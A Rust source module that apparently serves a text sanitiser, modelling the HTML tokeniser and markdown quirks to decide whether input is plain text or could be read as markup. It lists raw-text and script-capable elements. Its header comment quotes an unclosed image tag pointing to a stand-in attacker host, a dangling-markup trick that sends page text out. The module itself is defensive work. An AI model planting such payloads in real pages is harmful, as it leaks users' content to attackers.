//! HTML, after the tokeniser of its standard (section 13.2.5), reduced to one question: is this ordinary text?
//!
//! Exact where an attacker would gain from a difference (quotes that swallow `>`, comments that end early, elements
//! whose content is not markup), and stricter than the standard elsewhere. A tag that goes on over a line's end never
//! ends: an unclosed `<img src='https://evil.example/?` collects all text up to the next `'` that a browser sees.

/// Elements whose content is not markup: everything up to their end tag is data (HTML standard, section 13.2.6).
const RAW: [&str; 9] =
    ["script", "style", "textarea", "title", "xmp", "iframe", "noembed", "noframes", "plaintext"];
/// Elements whose content is markup and more than text on a page: what stands in them is sent, drawn or run.
const HELD: [&str; 8] = ["svg", "math", "select", "datalist", "button", "object", "noscript", "template"];
/// Other elements a browser knows. `a <b c` may be a comparison; an unknown name ends at an empty line, a known one
/// does not.
const KNOWN: &str = "\
    a abbr address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body \
    br canvas caption center cite code col colgroup option dd del details dfn dialog dir div dl dt em embed \
    fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hr html i image \
    img input ins isindex kbd label legend li link main map mark marquee menu meta nav ol p param picture \
    pre q s section source span strong table td th tr track ul video";

/// From so many columns of white space on, a line is code to markdown (CommonMark section 4.4).
const INDENTED: u8 = 4;

/// As long as the longest name above.
const MAX_NAME: usize = 10;

/// The most readings kept apart. Pages have one or two; a text with more is made to confuse, and nothing is put back
/// in the rest of it.
const MAX_READINGS: usize = 32;

/// All readings of the text so far that are not simply "this is text".
///
/// One reading is not enough. Markdown takes `<a =b <style>` for text and then an element, a browser takes it for one
/// tag; a comment that does not end is text to one and a comment to the other. So every `<`, wherever it stands,
/// begins a reading of its own beside those that are under way, and each goes on as a browser's would.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Markup {
    readings: Vec<Reading>,
    /// There were too many.
    lost: bool,
    /// Only white space since the last line break; kept while there are readings.
    line_empty: bool,
    /// The last character that was no white space was one that the target of a link may stand behind: `(`, `:`.
    before_target: bool,
    /// The last character was a carriage return; a line feed behind it is no line break of its own.
    carriage: bool,
    /// Something stands before the next character in its line.
    mid_line: bool,
    /// Columns of white space that the line begins with.
    indent: u8,
    /// The last character.
    last: char,
}

/// What a reading looks at besides the character.
#[derive(Clone, Copy)]
struct Place {
    /// This line break ends an empty line.
    paragraph_end: bool,
    /// Where the target of a link may stand.
    target: bool,
    /// Only white space stood in the line before this character.
    line_start: bool,
    /// The line begins with four columns or more: code to markdown, where no paragraph is under way.
    indented: bool,
    last: char,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Reading {
    state: State,
    /// Its `<` was the first character of its line.
    first: bool,
    /// Since it began, markdown may have ended the paragraph that it stands in.
    parted: bool,
    held: Option<Held>,
}

/// Inside an element of [`HELD`], and how many more of its name are open inside.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Held {
    name: &'static str,
    inner: u8,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum State {
    /// Text, in an element of [`HELD`]; any other text is no reading to keep.
    Text,
    /// `<`
    Open,
    /// `</`
    CloseOpen,
    /// In a tag's name; whether it is an end tag.
    Name(Name, bool),
    /// In a tag, between attributes or in an attribute's name.
    Attributes(Tag),
    /// Behind `=`.
    BeforeValue(Tag),
    Value(Tag),
    Quoted(Tag, char),
    /// `<!`, and perhaps a hyphen.
    Declaration(bool),
    /// `<?…`, `<!doctype…`, `</ …`: up to `>`.
    Bogus,
    Comment(Dashes),
    /// The content of an element of [`RAW`], with so many characters of its end tag read.
    Raw(&'static str, usize),
    /// Behind the name of that end tag.
    RawEnd,
    /// Something whose end may have been taken from it: the rest of the text. Markdown passes some lines on as HTML and
    /// escapes others, so of `<iframe src="…` and a next line `"> text` a browser may see a tag that goes on through the
    /// text; in a code span, a formula, a fenced block or behind a backslash, an end tag ends nothing.
    Endless,
}

/// A tag's name, lower case; what is longer than [`MAX_NAME`] is cut off.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
struct Name {
    bytes: [u8; MAX_NAME],
    len: usize,
}

/// What matters about a tag once its name is read.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Tag {
    /// An element that no browser knows.
    Unknown,
    Known,
    /// The start tag of an element of [`RAW`].
    Raw(&'static str),
    /// The start tag of an element of [`HELD`].
    Held(&'static str),
    /// The end tag of an element of [`HELD`].
    HeldEnd(&'static str),
}

/// What ends a comment: `-->`, `--!>`, and `>` or `->` right at its start.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Dashes {
    AtStart,
    /// `<!---`
    StartDash,
    None,
    One,
    Two,
    /// `--!`
    Bang,
}

impl Markup {
    /// Directly behind a `<` is a place for a value: `Ada <ada@example.com>` is how mail writes an address, and a
    /// value there names an element at worst, which nothing follows.
    pub(super) fn restorable(&self) -> bool {
        !self.lost && self.readings.iter().all(|r| r.state == State::Open && r.held.is_none())
    }

    pub(super) fn take(&mut self, c: char) {
        let line_break = matches!(c, '\n' | '\r');
        let first = !std::mem::replace(&mut self.mid_line, !line_break);
        if self.readings.is_empty() && c != '<' {
            return;
        }
        let line_start = first || self.line_empty;
        let paragraph_end = line_break && self.line_empty && !(c == '\n' && self.carriage);
        self.carriage = c == '\r';
        self.line_empty = line_break || self.line_empty && matches!(c, ' ' | '\t');
        if line_break {
            self.indent = 0;
        } else if line_start {
            self.indent = self.indent.saturating_add(match c {
                '\t' => INDENTED,
                ' ' => 1,
                _ => 0,
            });
        }
        let target = self.before_target;
        self.before_target = matches!(c, '(' | ':') || target && c.is_ascii_whitespace();
        let last = std::mem::replace(&mut self.last, c);
        let place = Place { paragraph_end, target, line_start, indented: self.indent >= INDENTED, last };
        self.readings.retain_mut(|reading| match reading.after(c, place) {
            Some(next) => {
                *reading = next;
                true
            }
            None => false,
        });
        if c == '<' {
            self.readings.push(Reading { state: State::Open, first, parted: false, held: None });
        }
        for i in (1..self.readings.len()).rev() {
            let (earlier, rest) = self.readings.split_at(i);
            if rest.first().is_some_and(|r| earlier.contains(r)) {
                self.readings.swap_remove(i);
            }
        }
        if self.readings.len() > MAX_READINGS {
            self.readings.clear();
            self.lost = true;
        }
    }
}

impl Reading {
    const ENDLESS: Reading = Reading { state: State::Endless, first: false, parted: false, held: None };

    /// The reading after one more character; `None` when it has come back to plain text.
    fn after(self, c: char, place: Place) -> Option<Reading> {
        let Place { paragraph_end, target, line_start, indented, last } = place;
        let inside = self.held.is_some() || matches!(self.state, State::Raw(..));
        // The end tag in `![x](</script>)` is the address of an image, and in `[x](y "</script>")` its title.
        let in_link = c == '<' && target || last == ']' && matches!(c, '(' | ':');
        // In the lines of code behind an empty line or a heading, it is text.
        let in_code = c == '<' && self.parted && indented;
        if inside && (matches!(c, '`' | '~' | '\\' | '$') || in_link || in_code) {
            return Some(Reading::ENDLESS);
        }
        let parted =
            self.parted || paragraph_end || line_start && (c.is_ascii_digit() || "#*-_=+|>".contains(c));
        let white = c.is_ascii_whitespace();
        let in_tag = matches!(
            self.state,
            State::Name(..)
                | State::Attributes(_)
                | State::BeforeValue(_)
                | State::Value(_)
                | State::Quoted(..)
        );
        if self.held.is_some() && in_tag && c == '<' {
            // Markdown may take the tag around it for text, and what begins here for one more to be closed.
            return Some(Reading::ENDLESS);
        }
        let state = match (self.state, c) {
            (State::Endless, _) => State::Endless,
            (State::Text, '<') | (State::Open, '<') => State::Open,
            (State::Text, _) => State::Text,
            (State::Open, '/') => State::CloseOpen,
            (State::Open, '!') => State::Declaration(false),
            (State::Open, '?') => State::Bogus,
            (State::Open | State::CloseOpen, c) if c.is_ascii_alphabetic() => {
                State::Name(Name::default().with(c), self.state == State::CloseOpen)
            }
            (State::Open, _) | (State::CloseOpen, '>') => State::Text,
            (State::CloseOpen, _) => State::Bogus,

            (State::Name(name, closing), '>') => return self.end_tag(name.tag(closing)),
            (State::Name(name, closing), '\n' | '\r') if name.tag(closing) != Tag::Unknown => State::Endless,
            (State::Name(name, closing), '/') if matches!(name.tag(closing), Tag::HeldEnd(_)) => {
                State::Endless
            }
            (State::Name(name, closing), c) if white || c == '/' => State::Attributes(name.tag(closing)),
            (State::Name(name, closing), c) => State::Name(name.with(c), closing),
            (State::Attributes(t) | State::Value(t) | State::BeforeValue(t), '>') => return self.end_tag(t),
            (State::RawEnd, '>') => State::Text,
            (State::Attributes(Tag::Unknown) | State::BeforeValue(Tag::Unknown), _) if paragraph_end => {
                State::Text
            }
            (State::Attributes(t) | State::BeforeValue(t) | State::Value(t), '\n' | '\r')
                if t != Tag::Unknown =>
            {
                State::Endless
            }
            (State::Quoted(..), '\n' | '\r') => State::Endless,
            // Markdown takes an end tag with anything behind its name for text, and the element goes on.
            (State::Attributes(Tag::HeldEnd(_)) | State::RawEnd, _) if !white => State::Endless,
            (State::Attributes(t), '=') => State::BeforeValue(t),
            (State::Attributes(t), _) => State::Attributes(t),
            (State::BeforeValue(t), _) if white => State::BeforeValue(t),
            (State::BeforeValue(t), '"' | '\'') => State::Quoted(t, c),
            (State::BeforeValue(t), _) => State::Value(t),
            (State::Value(t), _) if white => State::Attributes(t),
            (State::Value(t), _) => State::Value(t),
            (State::Quoted(t, q), c) if c == q => State::Attributes(t),
            (State::Quoted(t, q), _) => State::Quoted(t, q),

            (State::Declaration(false), '-') => State::Declaration(true),
            (State::Declaration(true), '-') => State::Comment(Dashes::AtStart),
            (State::Declaration(_) | State::Bogus, '>') => State::Text,
            (State::Declaration(_) | State::Bogus, _) => State::Bogus,
            // Markdown passes on the lines of a comment up to its end only if the comment begins in the first column. Of
            // any other, what should end it may be taken for text and be escaped: `<div><!--`, an empty line, `-->`.
            (State::Comment(_), '\n' | '\r') if !self.first || paragraph_end => State::Endless,
            (State::Comment(dashes), c) => dashes.after(c),
            (State::Raw(name, read), c) => raw(name, read, c),
            (State::RawEnd, '\n' | '\r') => State::Endless,
            (State::RawEnd, _) => State::RawEnd,
        };
        // Within an element the reading goes on with the next `<`, which is not looked for in the first column again.
        Reading { state, first: self.first && state != State::Text, parted, ..self }.unless_plain()
    }

    fn unless_plain(self) -> Option<Reading> {
        (self.state != State::Text || self.held.is_some()).then_some(self)
    }

    fn end_tag(self, tag: Tag) -> Option<Reading> {
        let (mut state, mut held) = (State::Text, self.held);
        match (tag, &mut held) {
            (Tag::Raw(name), _) => state = State::Raw(name, 0),
            (Tag::Held(name), None) => held = Some(Held { name, inner: 0 }),
            (Tag::Held(name), Some(outer)) if outer.name == name => {
                outer.inner = outer.inner.saturating_add(1)
            }
            (Tag::HeldEnd(name), Some(outer)) if outer.name == name => match outer.inner.checked_sub(1) {
                Some(inner) => outer.inner = inner,
                None => held = None,
            },
            _ => {}
        }
        Reading { state, held, ..self }.unless_plain()
    }
}

/// Looks in the content of a raw element for `</name` and what may follow a name.
fn raw(name: &'static str, read: usize, c: char) -> State {
    let expected = [b"</", name.as_bytes()].into_iter().flatten().copied().nth(read);
    match expected {
        Some(byte) if char::from(byte) == c.to_ascii_lowercase() => State::Raw(name, read + 1),
        None if name != "plaintext" && matches!(c, '\n' | '\r' | '/') => State::Endless,
        None if name != "plaintext" && c.is_ascii_whitespace() => State::RawEnd,
        None if name != "plaintext" && c == '>' => State::Text,
        _ => State::Raw(name, usize::from(c == '<')),
    }
}

impl Dashes {
    const fn after(self, c: char) -> State {
        let next = match (self, c) {
            (Dashes::AtStart | Dashes::StartDash | Dashes::Two | Dashes::Bang, '>') => return State::Text,
            (Dashes::AtStart, '-') => Dashes::StartDash,
            (Dashes::StartDash | Dashes::One | Dashes::Two, '-') => Dashes::Two,
            (Dashes::None | Dashes::Bang, '-') => Dashes::One,
            (Dashes::Two, '!') => Dashes::Bang,
            _ => Dashes::None,
        };
        State::Comment(next)
    }
}

impl Name {
    fn with(mut self, c: char) -> Name {
        if let Some(slot) = self.bytes.get_mut(self.len) {
            *slot = u8::try_from(c.to_ascii_lowercase()).unwrap_or(0xff);
            self.len += 1;
        }
        self
    }

    fn tag(&self, closing: bool) -> Tag {
        let name = self.bytes.get(..self.len).unwrap_or_default();
        let is = |known: &&&str| known.as_bytes() == name;
        let custom = name.contains(&b'-') || name.contains(&b':') || self.len == MAX_NAME;
        match (RAW.iter().find(is), HELD.iter().find(is)) {
            (Some(raw), _) if !closing => Tag::Raw(raw),
            (Some(_), _) => Tag::Known,
            (_, Some(held)) if closing => Tag::HeldEnd(held),
            (_, Some(held)) => Tag::Held(held),
            // Custom elements have a hyphen, other vocabularies a colon.
            _ if custom || KNOWN.split(' ').any(|k| k.as_bytes() == name) => Tag::Known,
            _ => Tag::Unknown,
        }
    }
}
